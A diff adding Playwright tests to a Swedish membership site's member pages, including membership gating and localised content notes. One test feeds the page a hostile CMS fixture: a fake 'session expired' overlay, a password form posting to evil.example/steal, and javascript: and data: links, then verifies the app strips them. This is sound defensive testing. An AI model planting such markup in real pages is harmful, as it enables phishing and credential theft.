@@ -100,7 +100,77 @@ test.describe('offers and membership information', () => {
     await expect.poll(() => myPagesLoadedCount(page)).toBe(1);
   });
 
-  test('says the page cannot be found when no page has the title', async ({
+  test('a hostile page cannot overlay the page, keep window.opener on its links or post a form', async ({
+    page,
+    expectAccessible,
+  }) => {
+    const hostile = `
+      <p>Veckans erbjudande: 20 % på massage.</p>
+      <div id="overlay" style="position:fixed;inset:0;z-index:2147483647;background:#fff">
+        Din session har gått ut. Logga in igen nedan.
+      </div>
+      <style>main h1 { display: none }</style>
+      <form id="steal" action="https://evil.example/steal" method="post">
+        <input name="password" type="password" aria-label="Lösenord">
+        <button type="submit">Logga in</button>
+      </form>
+      <p><a id="out" href="https://evil.example/offer" target="_blank">Till erbjudandet</a></p>
+      <p><a id="top" href="https://evil.example/top" target="_top" rel="opener">Visa mer</a></p>
+      <p><a id="js" href="javascript:window.__xss=1">Klicka här</a></p>
+      <p><a id="data" href="data:text/html,<script>opener.location='https://evil.example'</script>">Öppna</a></p>
+      <p><a id="frame" href="https://evil.example/x" target="evilframe">Ram</a></p>`;
+    await page.route('**/wp-json/wp/v2/pages**', async (route) => {
+      const response = await route.fetch();
+      const [offers, ...rest] = (await response.json()) as { content: { rendered: string } }[];
+      await route.fulfill({
+        response,
+        json: [{ ...offers!, content: { ...offers!.content, rendered: hostile } }, ...rest],
+      });
+    });
+    const evil: string[] = [];
+    await page.context().route('https://evil.example/**', async (route) => {
+      evil.push(`${route.request().method()} ${route.request().url()}`);
+      await route.fulfill({ contentType: 'text/html', body: '<title>evil</title><p>evil</p>' });
+    });
+    await open(page, '/mina-sidor/offers/');
+    const body = page.locator('.content-page-body');
+    await expect(body.getByText('Veckans erbjudande')).toBeVisible();
+
+    // No overlay: the inline style is gone, the page's own heading stays on top and visible.
+    await expect(body.locator('[style]')).toHaveCount(0);
+    await expect(body.locator('style')).toHaveCount(0);
+    await expect(page.getByRole('heading', { level: 1, name: 'Mina erbjudande' })).toBeVisible();
+    const topmost = await page.evaluate(() => {
+      const element = document.elementFromPoint(window.innerWidth / 2, window.innerHeight / 2);
+      return element?.closest('#overlay') ? 'overlay' : 'page';
+    });
+    expect(topmost).toBe('page');
+
+    // No form to post: the form and its controls are gone, the text around them stays.
+    await expect(body.locator('form, input, button, select, textarea')).toHaveCount(0);
+
+    // Every link with a target gets noopener; script and data URLs lose their href.
+    for (const id of ['out', 'top', 'frame'])
+      await expect(body.locator(`#${id}`)).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect(body.locator('#js')).not.toHaveAttribute('href', /./);
+    await expect(body.locator('#data')).not.toHaveAttribute('href', /./);
+
+    // The opened page cannot reach back.
+    const popupOpened = page.waitForEvent('popup');
+    await body.locator('#out').click();
+    const popup = await popupOpened;
+    await popup.waitForLoadState();
+    expect(await popup.evaluate(() => window.opener === null)).toBe(true);
+    await popup.close();
+
+    await body.locator('#js').click();
+    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
+    expect(evil.filter((request) => request.startsWith('POST'))).toEqual([]);
+    await expect(page).toHaveURL(/\/mina-sidor\/offers\/$/);
+    await expectAccessible();
+  });
+
+  test('says the page cannot be found when no page has the title, and fires MyPagesLoaded', async ({
     page,
     scenario,
     expectAccessible,
@@ -108,7 +178,8 @@ test.describe('offers and membership information', () => {
     await scenario('GET', '/wp/v2/pages', 'example=empty');
     await open(page, '/mina-sidor/offers/');
     await expect(page.getByText('Sidan kunde inte hittas.')).toBeVisible();
-    expect(await myPagesLoadedCount(page)).toBe(0);
+    // Spec §2: the event says the page has loaded, found or not.
+    await expect.poll(() => myPagesLoadedCount(page)).toBe(1);
     await expectAccessible();
   });
 
@@ -146,5 +217,79 @@ test.describe('offers and membership information', () => {
     release();
     await expect(page.getByRole('heading', { name: 'Ditt medlemskap' })).toBeVisible();
     await expect(page.getByText('Laddar...')).toHaveCount(0);
+  });
+
+  test('without a subscription, offers and news opened by URL say they are for members and load nothing', async ({
+    page,
+    scenario,
+    expectAccessible,
+  }) => {
+    await scenario('GET', '/customers/*/subscriptions', 'example=empty');
+    const contentRequests: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('/wp-json/wp/v2/pages')) contentRequests.push(request.url());
+    });
+    await open(page, '/mina-sidor/offers/');
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Mina erbjudande');
+    await expect(page.getByText('Den här sidan är för dig som har ett medlemskap.')).toBeVisible();
+    await expect(page.getByText('Erbjudanden för dig som är medlem')).toHaveCount(0);
+    await expectAccessible();
+
+    await page.goto('/en/mina-sidor/news/');
+    await expect(page.getByText('This page is for members with a membership.')).toBeVisible({
+      timeout: 20_000,
+    });
+    await expect(page.getByText('Your membership')).toHaveCount(0);
+    expect(contentRequests).toEqual([]);
+    expect(await myPagesLoadedCount(page)).toBe(0);
+    await page.getByRole('link', { name: 'Go to the overview' }).click();
+    await expect(page).toHaveURL(/\/en\/mina-sidor\/overview\/$/);
+  });
+});
+
+test.describe('notes from the content site on member pages (brp_my_pages)', () => {
+  test.beforeEach(async ({ signIn }) => {
+    await signIn();
+  });
+
+  test('the bookings page shows its note in the page language @mobile', async ({
+    page,
+    expectAccessible,
+  }) => {
+    const request = page.waitForRequest((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
+    await open(page, '/mina-sidor/bookings/');
+    expect(new URL((await request).url()).searchParams.get('lang')).toBe('sv');
+    const note = page.getByRole('region', { name: 'Bra att veta' });
+    await expect(note).toContainText('Avboka gruppträning senast två timmar före start.');
+    await expectAccessible();
+
+    const english = page.waitForRequest(
+      (r) =>
+        r.url().includes('/wp-json/wp/v2/brp_my_pages') &&
+        new URL(r.url()).searchParams.get('lang') === 'en',
+    );
+    await page.goto('/en/mina-sidor/bookings/');
+    await english;
+    await expect(page.getByRole('region', { name: 'Good to know' })).toContainText(
+      'Cancel group classes at the latest two hours before they start.',
+    );
+  });
+
+  test('a page without a note, or a failing content site, shows the page without one', async ({
+    page,
+    scenario,
+  }) => {
+    await open(page, '/mina-sidor/purchases/');
+    await expect(page.getByRole('heading', { level: 1, name: 'Mina köp' })).toBeVisible();
+    await expect(page.getByTestId('member-page-note')).toHaveCount(0);
+
+    await scenario('GET', '/wp/v2/brp_my_pages', 'code=400');
+    const failed = page.waitForResponse((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
+    await page.goto('/mina-sidor/bookings/');
+    expect((await failed).status()).toBe(400);
+    await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible({
+      timeout: 20_000,
+    });
+    await expect(page.getByTestId('member-page-note')).toHaveCount(0);
   });
 });
